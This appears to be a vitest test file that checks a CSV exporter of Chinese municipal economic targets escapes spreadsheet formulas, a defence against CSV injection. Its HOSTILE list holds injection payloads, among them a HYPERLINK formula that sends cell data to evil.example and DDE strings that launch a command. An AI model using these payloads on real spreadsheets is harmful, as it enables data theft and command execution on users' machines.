/**
 * targets.csv and the explorer's download never hand a spreadsheet a formula (OWASP CSV
 * injection): a text cell that starts with =, +, -, @, tab or CR is written with a leading
 * apostrophe, quoted when needed, and read back as the same text; numbers stay numbers.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { CSV_COLUMNS, targetsToCsv } from '../../src/lib/targets-csv.ts';
import { Target } from '../../src/schemas/target.ts';

const base: Target = Target.parse({
  id: 'x:p1-1:1', report: 'x', clause: 'p1-1', url: '/reports/x/#p1-1', jurisdiction: '济南市', level: 'city', kind: 'target',
  period: '2024', indicator: 'gdp', label: '地区生产总值增长', value: -1.5, valueMax: null, unit: '%', comparator: 'gte', measure: 'growth',
  baseYear: null, baseValue: null, attribute: null, headline: true, figure: '5.5%以上', text: '地区生产总值增长5.5%以上。',
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1,"逗号",\n换行',
];

const rowsOf = (csv: string) => parse(csv.replace(/^\uFEFF/, ''), { columns: true, relax_column_count: false }) as Record<string, string>[];

describe('targets CSV with hostile text', () => {
  test.each(HOSTILE)('a label %j is written as text, never as a formula', (hostile) => {
    const csv = targetsToCsv([{ ...base, label: hostile, text: hostile, figure: hostile }]);
    const [row] = rowsOf(csv);
    for (const column of ['label', 'text', 'figure'] as const) {
      // Every cell a spreadsheet sees starts with the apostrophe, and what follows is the text unchanged.
      expect(row![column]).toBe(`'${hostile}`);
      expect(/^[=+\-@\t\r]/.test(row![column]!)).toBe(false);
    }
  });

  test('numbers stay numbers (a negative value is not escaped), and the columns are the contract', () => {
    const csv = targetsToCsv([base]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const [row] = rowsOf(csv);
    expect(Object.keys(row!)).toEqual([...CSV_COLUMNS]);
    expect(row!.value).toBe('-1.5');
    expect(row!.measure).toBe('growth');
    expect(row!.label).toBe('地区生产总值增长');
  });

  test('ordinary text that merely contains the characters is left alone', () => {
    const [row] = rowsOf(targetsToCsv([{ ...base, label: '完成投资+10%@2024=目标' }]));
    expect(row!.label).toBe('完成投资+10%@2024=目标');
  });
});
